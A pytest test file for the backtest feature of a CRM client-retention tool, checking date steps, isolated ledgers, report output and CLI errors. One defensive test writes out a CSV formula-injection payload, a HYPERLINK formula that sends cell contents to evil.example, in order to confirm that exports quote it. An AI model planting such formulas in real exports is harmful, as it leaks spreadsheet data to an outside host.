"""Backtests (issue 6): nightly runs replayed over history with a fresh ledger, per rule and per manager."""

from __future__ import annotations

import csv
import dataclasses
import json
import re
import shutil
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from conftest import make_store
from test_cli import RULES, run

import retainer
from retainer import RetainerError
from retainer.actions import Action
from retainer.adapters import CallbackHandler
from retainer.backtest import backtest, render_html, steps_between, write_csv
from retainer.datafiles import import_data
from retainer.model import ENTITIES
from retainer.synth import generate

ROOT = Path(__file__).resolve().parents[1]
FR = {"rules": [{"id": "forgotten", "kind": "forgotten", "after": "60d"},
                {"id": "release", "kind": "release", "forgotten_rule": "forgotten", "grace": "14d"}]}  # fmt: skip


@pytest.mark.parametrize(
    ("start", "end", "step", "expected"),
    [
        ("2026-03-01", "2026-03-03", "1d", ["2026-03-01", "2026-03-02", "2026-03-03"]),
        ("2026-03-01", "2026-03-20", "1w", ["2026-03-01", "2026-03-08", "2026-03-15"]),
        ("2026-01-31", "2026-04-30", "1mo", ["2026-01-31", "2026-02-28", "2026-03-31", "2026-04-30"]),
        ("2026-03-01", "2026-03-01", "1d", ["2026-03-01"]),
    ],
)
def test_steps(start: str, end: str, step: str, expected: list[str]) -> None:
    got = steps_between(date.fromisoformat(start), date.fromisoformat(end), step)
    assert [d.isoformat() for d in got] == expected


@pytest.mark.parametrize(("step", "message"), [("36h", "days, weeks or months"), ("soon", "invalid duration")])
def test_bad_steps(step: str, message: str) -> None:
    with pytest.raises(RetainerError, match=message):
        steps_between(date(2026, 3, 1), date(2026, 4, 1), step)
    with pytest.raises(RetainerError, match=r"the end \(2026-03-01\) is before the start \(2026-03-02\)"):
        steps_between(date(2026, 3, 2), date(2026, 3, 1), "1d")


def test_the_python_api_takes_iso_text_and_says_which_date_is_wrong(tmp_path: Path) -> None:
    store = make_store("memory", tmp_path)
    small_crm(store)
    rules = retainer.load_rules(FR)
    by_text = backtest(rules, store, "2026-01-20", "2026-02-20", step="1w")
    by_date = backtest(rules, store, date(2026, 1, 20), date(2026, 2, 20), step="1w")
    assert by_text.days == by_date.days and by_text.per_rule() == by_date.per_rule()
    with pytest.raises(RetainerError, match="the end must be a date like 2026-03-01, not 'soon'"):
        backtest(rules, store, "2026-01-20", "soon")
    with pytest.raises(RetainerError, match="the end 9999-12-31: dates must lie between the years 1900 and 2999"):
        backtest(rules, store, "2026-01-20", "9999-12-31")  # stepping past year 9999 was an OverflowError
    with pytest.raises(RetainerError, match="the start 0001-01-01: dates must lie between the years 1900 and 2999"):
        backtest(rules, store, date(1, 1, 1), "2026-02-20")
    with pytest.raises(RetainerError, match="method 'fast': use sweep or replan"):
        backtest(rules, store, "2026-01-20", "2026-02-20", method="fast")


def small_crm(store: retainer.Store) -> None:
    store.add(
        managers=[{"id": "m1", "supervisor_id": "boss"}, {"id": "m2", "supervisor_id": "boss"}, {"id": "boss"}],
        clients=[{"id": "c1", "manager_id": "m1", "created_at": "2025-01-01"},
                 {"id": "c2", "manager_id": "m1", "created_at": "2025-01-01"}],
        touches=[{"id": "t1", "client_id": "c1", "at": "2026-01-01T10:00:00", "kind": "call"},
                 {"id": "t2", "client_id": "c2", "at": "2026-01-01T10:00:00", "kind": "call"},
                 # c2 is called on 5 March: only steps from that day on may know it
                 {"id": "t3", "client_id": "c2", "at": "2026-03-05T10:00:00", "kind": "call"}],
    )  # fmt: skip


def test_each_step_sees_only_the_facts_known_then_and_the_real_ledger_stays_empty(
    backend: str, tmp_path: Path
) -> None:
    store = make_store(backend, tmp_path)
    small_crm(store)
    b = backtest(retainer.load_rules(FR), store, date(2026, 2, 25), date(2026, 5, 10))
    days = {(a.client_id, a.type): d for d, a in b.new}
    assert days[("c1", "create_task")] == date(2026, 3, 2)  # day 60 of silence
    assert days[("c1", "reassign")] == date(2026, 3, 16)  # 14 days of grace later
    c2_tasks = [d for d, a in b.new if a.client_id == "c2" and a.type == "create_task"]
    assert c2_tasks == [date(2026, 3, 2), date(2026, 5, 4)]  # a new episode after the 5 March call
    assert sum(1 for _, a in b.new if a.client_id == "c1" and a.type == "create_task") == 1  # no duplicates
    assert store.ledger() == [] and store.runs() == []  # production's ledger never touched
    pm = b.per_manager()
    assert pm["m1"]["tasks"] == 3 and pm["m1"]["peak_tasks_per_step"] == 2 and pm["m1"]["lost"] == 1
    assert pm["m2"]["gained"] == 1
    assert sum(sum(v) for v in b.timeline().values()) == len(b.new)
    assert b.per_rule()["forgotten"] == {"create_task": 3}


def test_a_backtest_equals_nightly_runs_on_a_copy(tmp_path: Path) -> None:
    """Differential: the same steps run by hand against a copy of the facts give the same actions."""
    generate(tmp_path / "crm", clients=150, seed=3, as_of=date(2026, 3, 1))
    rules = retainer.load_rules(RULES)
    src = retainer.open_store("memory://", timezone=rules.tz)
    import_data(tmp_path / "crm", src)
    b = backtest(rules, src, date(2025, 12, 1), date(2026, 3, 1), step="1w")
    copy = retainer.open_store("memory://", timezone=rules.tz)
    copy.add(**{e: list(src.iter(e)) for e in ENTITIES})
    engine = retainer.Engine(rules, copy)
    by_hand = []
    day = date(2025, 12, 1)

    def crm(a: Action) -> None:  # carries out reassignments, as a backtest assumes the CRM does
        if a.type == "reassign":
            c = copy.get("clients", a.client_id)
            copy.upsert(clients=[c.model_copy(update={"manager_id": a.to_manager_id})])  # type: ignore[attr-defined,union-attr]

    while day <= date(2026, 3, 1):
        report = engine.run(day, handlers=CallbackHandler(crm))
        by_hand += [(day, a.key) for a in report.committed]
        day += timedelta(days=7)
    assert [(d, a.key) for d, a in b.new] == by_hand and by_hand
    assert any(a.type == "reassign" for _, a in b.new)  # the steps include reassignments, carried out


def test_compare_two_rule_sets_and_render(tmp_path: Path) -> None:
    store = retainer.open_store("memory://")
    small_crm(store)
    strict = {"rules": [{**FR["rules"][0], "after": "30d"}, FR["rules"][1]]}
    a = backtest(retainer.load_rules(FR), store, date(2026, 1, 20), date(2026, 3, 20), label="60 days")
    b = backtest(retainer.load_rules(strict), store, date(2026, 1, 20), date(2026, 3, 20), label="30 days")
    assert min(d for d, x in b.new) < min(d for d, x in a.new)  # the stricter rule acts earlier
    html = render_html([a, b])
    assert html.startswith("<!doctype html>") and html.count("<svg") >= 4 and "B − A" in html
    assert "60 days (A)" in html and "30 days (B)" in html and "<table>" in html
    # long labels keep their (A) and (B) in the charts' legends; found in review: both read "examples/rules/reten"
    long_a, long_b = (dataclasses.replace(x, label="examples/rules/retention-" + x.label) for x in (a, b))
    legends = re.findall(r'class="legend">([^<]*)<', render_html([long_a, long_b]))
    assert any(t.endswith("(A)") for t in legends) and any(t.endswith("(B)") for t in legends)
    # 30 managers with a task each: the chart's 20 are the first by id, whatever the order of the sets
    many = {f"m{i:02}": {"tasks": 1} for i in (7, 29, 3, *range(30))}
    object.__setattr__(a, "per_manager", lambda: many)
    object.__setattr__(b, "per_manager", lambda: dict(reversed(many.items())))
    page = render_html([a, b])
    chart = page[page.index("tasks per manager (top 20)"):]
    shown = set(re.findall(r">(m\d\d)<", chart[: chart.index("</svg>")]))
    assert shown == {f"m{i:02}" for i in range(20)}, sorted(shown)
    write_csv([a, b], str(tmp_path / "ab.csv"))  # a path as text, as a script passes it (an AttributeError)
    assert (tmp_path / "ab.csv").read_text().startswith("rules,date,rule,type")


def test_cli_backtest_writes_json_csv_html(tmp_path: Path) -> None:
    out = tmp_path / "bt"
    r = run("backtest", "-r", str(RULES), "-d", str(RULES.parents[1] / "crm"), "--from", "2026-02-01",
            "--to", "2026-03-15", "--step", "1w", "--compare", str(RULES), "--out", str(out), "-f", "json")  # fmt: skip
    assert r.returncode == 0, r.stderr
    got = json.loads(r.stdout)
    assert len(got) == 2 and got[0]["steps"] == 7 and got[0]["per_rule"] == got[1]["per_rule"]
    # the same file twice: A and B by their places (found in review: B got its path, A its name, and the CSV's
    # rows could not be told apart when the paths were equal)
    assert [x["label"] for x in got] == [f"{RULES} (A)", f"{RULES} (B)"]
    assert {p.name for p in out.iterdir()} == {"backtest.json", "backtest.csv", "backtest.html"}
    header = (out / "backtest.csv").read_text().splitlines()[0]
    assert header == "rules,date,rule,type,manager,role,count"
    csv_out = run("backtest", "-r", str(RULES), "-d", str(RULES.parents[1] / "crm"), "--from", "2026-02-01",
                  "--to", "2026-03-15", "-f", "csv")  # fmt: skip
    assert csv_out.returncode == 0 and csv_out.stdout.startswith("rules,date,rule,type")


def test_a_backtest_tells_what_its_plans_warned_of(tmp_path: Path) -> None:
    """Found in review: a client whose `forgotten_after` is "45 days" is skipped with a warning by `retainer
    plan`; the backtest kept the warnings to itself, and the client silently went missing from its counts."""
    store = make_store("sqlite", tmp_path)
    store.add(managers=[{"id": "m1"}],
              clients=[{"id": "c1", "manager_id": "m1", "created_at": "2025-01-01",
                        "attributes": {"forgotten_after": "45 days"}},
                       {"id": "c2", "manager_id": "m1", "created_at": "2025-01-01"}])  # fmt: skip
    rules = {"rules": [{"id": "forgotten", "kind": "forgotten", "after": "60d"}]}  # the attribute beats `after`
    want = {"rule forgotten, client c1: attributes.forgotten_after '45 days' is not a duration (write e.g. 45d, "
            "6w, 2mo, 36h); skipped"}  # fmt: skip
    for method in ("sweep", "replan"):
        b = backtest(retainer.load_rules(rules), store, date(2026, 3, 1), date(2026, 3, 3), method=method)
        assert b.warnings == want and [a.client_id for _, a in b.new] == ["c2"]
        assert b.to_dict()["warnings"] == sorted(want)


def test_the_json_timeline_keeps_the_dates_apart_from_a_rule_called_days(tmp_path: Path) -> None:
    """Found in review: the rules' series sat beside the step dates, so a rule with the id `days` replaced them."""
    store = make_store("sqlite", tmp_path)
    store.add(managers=[{"id": "m1"}], clients=[{"id": "c1", "manager_id": "m1", "created_at": "2025-01-01"}])
    rules = {"rules": [{"id": "days", "kind": "forgotten", "after": "60d"}]}
    timeline = backtest(retainer.load_rules(rules), store, date(2026, 3, 1), date(2026, 3, 2)).to_dict()["timeline"]
    assert timeline == {"days": ["2026-03-01", "2026-03-02"], "rules": {"days": [1, 0]}}


def test_cli_backtest_prints_the_warnings_on_stderr(tmp_path: Path) -> None:
    crm = tmp_path / "crm"
    shutil.copytree(RULES.parents[1] / "crm", crm)
    rows = list(csv.DictReader((crm / "clients.csv").open(encoding="utf-8")))
    for r in rows:
        r["attributes"] = '{"forgotten_after": "45 days"}' if r["id"] == "c1" else ""
    with (crm / "clients.csv").open("w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    r = run("backtest", "-r", str(RULES), "-d", str(crm), "--from", "2026-02-01", "--to", "2026-03-01", "-f", "json")
    assert r.returncode == 0, r.stderr
    assert "warning: rule forgotten, client c1: attributes.forgotten_after '45 days' is not a duration" in r.stderr
    assert any("client c1" in w for w in json.loads(r.stdout)[0]["warnings"])


@pytest.mark.parametrize(
    ("command", "make", "target", "message"),
    [
        ("backtest", "file", "taken", "--out {p}: is a file, not a folder"),
        ("backtest", "file", "taken/sub", "is a file, not a folder"),
        ("report", "folder", "taken.md", "--out {p}: is a folder, not a file"),
        ("report", "folder", "taken/nodir/x.html", "--out {p}: the folder {p.parent} does not exist"),
        ("demo", "file", "taken", "--dir {p}: is a file, not a folder"),
    ],
)
def test_cli_refuses_an_output_path_it_cannot_write_before_any_work(
    tmp_path: Path, command: str, make: str, target: str, message: str
) -> None:
    """Found by a new-user review: a backtest ran to the end, then died on `mkdir` with a traceback."""
    taken = tmp_path / target.split("/")[0]
    taken.mkdir() if make == "folder" else taken.write_text("mine\n")
    p = tmp_path / target
    crm = ["-r", str(RULES), "-d", str(RULES.parents[1] / "crm")]
    args = {"backtest": [*crm, "--from", "2026-02-01", "--to", "2026-02-03", "--out", str(p)],
            "report": [*crm, "--as-of", "2026-03-01", "--out", str(p)],
            "demo": ["--dir", str(p), "--clients", "10"]}[command]  # fmt: skip
    r = run(command, *args)
    assert r.returncode == 2 and message.format(p=p) in r.stderr and "Traceback" not in r.stderr
    assert sorted(x.name for x in tmp_path.iterdir()) == [taken.name]  # nothing written
    if make == "file":
        assert taken.read_text() == "mine\n"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--from", "2026-03-01", "--to", "2026-02-01"], "before --from"),
        (["--from", "March", "--to", "2026-02-01"], "--from must be a date"),
        (["--from", "2026-02-01", "--to", "2026-03-01", "--step", "2h"], "days, weeks or months"),
    ],
)
def test_cli_backtest_bad_input(args: list[str], message: str) -> None:
    r = run("backtest", "-r", str(RULES), "-d", str(RULES.parents[1] / "crm"), *args)
    assert r.returncode == 2 and message in r.stderr and "Traceback" not in r.stderr


def test_a_backtest_ledger_records_its_actions_as_delivered_in_the_commit(tmp_path: Path) -> None:
    """The backtest's sink takes everything at once: the commit records each action done after one attempt,
    so nothing is left pending for a dispatcher (`delivered=True`, the memory store's own option)."""
    from retainer.backtest import FreshLedger, _commit

    store = make_store("memory", tmp_path)
    small_crm(store)
    overlay = FreshLedger(store)
    engine = retainer.Engine(retainer.load_rules(FR), overlay)  # type: ignore[arg-type]
    a = engine.as_of("2026-03-20")
    committed = _commit(engine, a, engine.plan(a.instant).actions, {})
    assert committed
    entries = overlay.ledger()
    assert {(e.status, e.attempts, e.updated_at) for e in entries} == {("done", 1, a.instant)}
    assert overlay.ledger(status=["pending", "failed"]) == []
    assert store.ledger() == []  # the store's own ledger is never written


def test_a_backtest_reads_no_cancellation_from_the_production_ledger(tmp_path: Path) -> None:
    """Production cancelled a move because its manager left: a backtest over that store decided the move again
    in its own fresh ledger, where it had never been cancelled (sweep and re-plan then disagreed)."""
    from retainer.backtest import FreshLedger

    store = make_store("memory", tmp_path)
    small_crm(store)
    e = retainer.Engine(retainer.load_rules(FR), store)
    (move,) = [a for a in e.run("2026-03-20", clock=lambda: datetime(2026, 3, 21, tzinfo=UTC)).committed
               if a.type == "reassign"]  # fmt: skip
    e.record_outcome(move.id, {"cancelled": "manager left", "code": "manager_left"})
    assert store.cancellations([move.key]) == {move.key: "manager_left"}
    assert FreshLedger(store).cancellations([move.key]) == {}


def test_a_step_longer_than_a_night_says_what_it_does_to_daily_limits(tmp_path: Path) -> None:
    """Found by a new-user review: a weekly backtest let each manager's daily limit act once a week and
    understated their tasks by a fifth, silently."""
    from retainer.backtest import step_notes

    limited = retainer.load_rules({**FR, "policies": {"manager_daily_task_limit": 3}})
    assert step_notes(limited, "1w") == [
        "each --step 1w is one night's run: manager_daily_task_limit (3) limit one step, not one day, so the counts "
        "are lower than nightly runs would give; use --step 1d"]  # fmt: skip
    assert step_notes(limited, "1d") == [] and step_notes(retainer.load_rules(FR), "1mo") == []
    rules = tmp_path / "r.yaml"
    rules.write_text(json.dumps({**FR, "policies": {"caps": [{"category": "retention", "limit": 1, "per": "1d"}]}}))
    r = run("backtest", "-r", str(rules), "-d", str(ROOT / "examples" / "crm"), "--from", "2026-02-01", "--to",
            "2026-03-01", "--step", "1w", "-f", "json")  # fmt: skip
    assert r.returncode == 0
    assert "note: r.yaml: each --step 1w is one night's run: caps[0] (per 1d, rolling)" in r.stderr


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path: Path) -> None:
    """A manager id `=HYPERLINK("http://evil.example/?"&A1,"m2")` from the CRM was a live formula in
    backtest.csv once an analyst opened it in Excel or LibreOffice."""
    import csv
    import io

    from retainer.backtest import csv_text, write_csv

    evil = '=HYPERLINK("http://evil.example/?"&A1,"m2")'
    store = retainer.open_store("memory://")
    store.add(managers=[{"id": evil}, {"id": "@m2"}, {"id": "-m3"}, {"id": "+m4"}],
              clients=[{"id": f"c{n}", "manager_id": m, "created_at": "2025-01-01"}
                       for n, m in enumerate([evil, "@m2", "-m3", "+m4"])])  # fmt: skip
    result = backtest(retainer.load_rules(FR), store, "2026-03-01", "2026-03-01")
    write_csv([result], tmp_path / "backtest.csv")
    for text in (csv_text([result]), (tmp_path / "backtest.csv").read_text(encoding="utf-8")):
        managers = sorted({r["manager"] for r in csv.DictReader(io.StringIO(text))})
        assert managers == ["'+m4", "'-m3", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"m2\")", "'@m2"]


def test_the_terminal_table_per_manager_has_every_column_the_docs_list() -> None:
    """Found in review: the table left out "client actions" (JSON and HTML have it), and cut "notifications"."""
    r = run("backtest", "-r", str(RULES.parent / "full.yaml"), "-d", str(RULES.parents[1] / "crm"), "--from",
            "2026-02-01", "--to", "2026-03-15", "--step", "1w", "-f", "table")  # fmt: skip
    assert r.returncode == 0, r.stderr
    header = r.stdout[r.stdout.index("Per manager"):]
    assert "notifications" in header and "actions" in header and "…" not in header
